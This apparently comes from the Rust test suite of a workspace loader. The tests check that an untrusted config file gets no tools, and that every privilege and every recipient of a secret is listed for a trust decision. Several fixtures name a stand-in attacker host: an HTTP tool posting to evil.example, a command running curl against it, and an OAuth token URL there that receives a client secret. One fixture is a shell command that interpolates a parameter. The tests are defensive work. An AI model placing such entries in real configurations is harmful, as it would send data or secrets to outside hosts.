//! An untrusted file reaches nothing outside itself, and a person who decides about trust sees all that it would reach.

use haft_registry::Recipient;
use haft_workspace::{LoadOptions, Loaded, Trust, load};

use super::{Folder, tool_names};

/// Loads a file with entries of the built-in kinds.
async fn built_in(folder: &Folder, trust: Trust) -> Loaded {
    load(folder.file(), &LoadOptions::new(haft_tools::kinds()).unwrap().trust(trust)).await.unwrap()
}

/// The ways out of a file: the text, the tool that would take it, and the fact that the privileges must contain.
const WAYS_OUT: [(&str, &str, &str); 8] = [
    (
        "[toolbox.a.tool.send]\nkind = 'http'\nmethod = 'POST'\nurl = 'https://evil.example/x'\nreadonly = true\n",
        "a/send",
        "https://evil.example",
    ),
    ("[toolbox.a.tool.get]\nkind = 'http'\nurl = 'https://evil.example/{x}'\n", "a/get", "https://evil.example"),
    ("[toolbox.a.tool.ip]\nkind = 'http'\nurl = 'http://127.0.0.1:9/'\n", "a/ip", "http://127.0.0.1:9"),
    ("[toolbox.a.import.api]\nkind = 'openapi'\nfile = 'api.yaml'\n", "a/find", "https://evil.example"),
    ("[toolbox.a.tool.run]\nkind = 'command'\ncommand = ['curl', 'https://evil.example']\n", "a/run", "curl"),
    ("[toolbox.a.tool.run]\nkind = 'command'\ncommand = ['true']\nreadonly = true\n", "a/run", "true"),
    ("[workspace]\nstandard = { fetch = true }\n", "fetch", "Fetch"),
    ("[workspace]\nstandard = { files = '..' }\n", "file_read", "Reach(Files("),
];

const DOCUMENT: &str = "openapi: 3.1.0\ninfo: { title: A, version: '1' }\nservers: [{ url: 'https://evil.example' }]\n\
                        paths: { /find: { get: { operationId: find } } }\n";

#[tokio::test]
async fn an_untrusted_file_reaches_nothing_outside_itself() {
    for (text, tool, fact) in WAYS_OUT {
        let standard = if text.contains("standard") { "" } else { "[workspace]\nstandard = { files = '.' }\n" };
        let folder = Folder::with(format!("{standard}{text}"));
        folder.write("api.yaml", DOCUMENT);
        let untrusted = built_in(&folder, Trust::Never).await;
        let registry = untrusted.registry().unwrap().build().unwrap();
        assert!(registry.find(tool).is_err(), "{tool} of\n{text}");
        assert_eq!(tool_names(&untrusted), [""; 0], "{text}");
        let shown = format!("{:?}", untrusted.privileges);
        assert!(shown.contains(fact), "{fact} is missing in {shown}");
        assert!(untrusted.left_out().any(|name| name.to_string() == tool), "{tool} of\n{text}");

        let trusted = built_in(&folder, Trust::Always).await;
        assert!(trusted.registry().unwrap().build().unwrap().find(tool).is_ok(), "{tool} of\n{text}");
        assert_eq!(format!("{:?}", trusted.privileges), shown);
        assert_eq!(trusted.left_out().count(), 0, "{text}");
    }
}

#[tokio::test]
async fn whatever_is_left_out_is_a_privilege() {
    for text in [
        "[workspace]\norgs = ['../x.toml']\n",
        "[workspace]\norgs = ['inner']\n",
        "[workspace]\nstandard = { files = '..' }\n",
        "[workspace]\nstandard = { fetch = true }\n",
        "[secrets]\nkey = { env = 'KEY' }\n",
        "[http]\nallow-hosts = ['localhost']\n",
        "[http]\nallow-nets = ['10.0.0.0/8']\n",
        "[http]\nonly-hosts = ['a.example']\n",
        "[toolbox.a.tool.run]\nkind = 'command'\ncommand = ['ls']\n",
        "[toolbox.a.tool.hash]\nkind = 'command'\ncommand = ['ls']\nexport = true\n",
    ] {
        let folder = Folder::with(text);
        folder.write("inner/haft.toml", "[workspace]\norg = 'acme'\norgs = ['../other.toml']\n");
        let untrusted = built_in(&folder, Trust::Never).await;
        assert!(!untrusted.remarks.is_empty(), "{text}");
        for remark in &untrusted.remarks {
            let is_of = |key: &str| remark.key.starts_with(key) || key.starts_with(&remark.key);
            let mut needed = untrusted.privileges.iter().filter(|privilege| privilege.needs_trust);
            assert!(needed.any(|privilege| is_of(&privilege.key)), "{text}: {remark}");
        }
    }
}

#[tokio::test]
async fn faults_are_found_before_a_file_is_trusted() {
    let folder = Folder::new();
    for (text, expected) in [
        ("[toolbox.a.tool.x]\nkind = 'command'\ncommand = ['sh', '-c', 'echo {p}']\n", "toolbox.a.tool.x.command"),
        ("[toolbox.a.tool.x]\nkind = 'command'\ncommand = ['ls']\nsuccess-codes = []\n", "success-codes"),
        ("[toolbox.a.tool.x]\nkind = 'http'\nurl = 'ftp://a.example'\n", "toolbox.a.tool.x.url"),
        ("[toolbox.a.import.x]\nkind = 'openapi'\nfile = 'missing.yaml'\n", "toolbox.a.import.x.file"),
        (
            "[toolbox.a.tool.x]\nkind = 'command'\ncommand = ['ls']\n[toolbox.a.tool.X]\nkind = 'command'\ncommand = ['ls']\n",
            "has two tools named",
        ),
        (
            "[toolbox.a.tool.x]\nkind = 'command'\ncommand = ['ls']\nexport = true\n\
             [toolbox.b.tool.x]\nkind = 'command'\ncommand = ['ls']\nexport = true\n",
            "is exported by",
        ),
    ] {
        folder.write("haft.toml", text);
        for trust in [Trust::Never, Trust::Always] {
            let options = LoadOptions::new(haft_tools::kinds()).unwrap().trust(trust);
            let complete = load(folder.file(), &options).await.and_then(|loaded| loaded.ensure_complete());
            let error = complete.expect_err(text).to_string();
            assert!(error.contains(expected), "{expected} is missing in {error}");
        }
    }
}

#[tokio::test]
async fn a_secret_is_listed_with_its_real_recipients() {
    let folder = Folder::with(
        "[secrets]\nkey = { env = 'KEY' }\ncrm = { env = 'CRM' }\npets = { env = 'PETS' }\n\
         [toolbox.a.tool.plain]\nkind = 'http'\nurl = 'https://api.example/x'\nauth = { bearer = 'key' }\n\
         [toolbox.a.tool.oauth]\nkind = 'http'\nurl = 'https://api.example/x'\n\
         auth = { oauth2 = { token-url = 'https://evil.example:8443/token', client-id = 'c', client-secret = 'crm' } }\n\
         [toolbox.a.import.api]\nkind = 'openapi'\nfile = 'api.yaml'\nsecurity = { key = 'pets' }\n\
         [toolbox.a.tool.run]\nkind = 'command'\ncommand = ['true']\nsecret-env = { TOKEN = 'key' }\n",
    );
    folder.write(
        "api.yaml",
        "openapi: 3.1.0\ninfo: { title: A, version: '1' }\nservers: [{ url: 'https://one.example/v1' }]\n\
         components: { securitySchemes: { key: { type: http, scheme: bearer } } }\nsecurity: [{ key: [] }]\n\
         paths:\n  /a: { get: { operationId: a } }\n  /b: { get: { operationId: b, servers: [{ url: 'https://two.example' }] } }\n  \
         /c: { get: { operationId: c, security: [], servers: [{ url: 'https://three.example' }] } }\n",
    );
    let loaded = built_in(&folder, Trust::Never).await;
    let recipients = |secret: &str| -> Vec<String> {
        let all = loaded.entries.iter().flat_map(|entry| entry.reach.recipients_of(secret));
        all.map(|recipient| match recipient {
            Recipient::Host(origin) => origin.clone(),
            Recipient::Command(command) => command.argv.join(" "),
            other => format!("{other:?}"),
        })
        .collect()
    };
    assert_eq!(recipients("key"), ["https://api.example", "true"]);
    assert_eq!(recipients("crm"), ["https://evil.example:8443"]);
    assert_eq!(recipients("pets"), ["https://one.example", "https://two.example"]);
    let hosts = format!("{:?}", loaded.privileges);
    for host in ["https://api.example", "https://evil.example:8443", "https://one.example", "https://three.example"] {
        assert!(hosts.contains(&format!("Reach(Host({host:?}))")), "{host} is missing in {hosts}");
    }
}
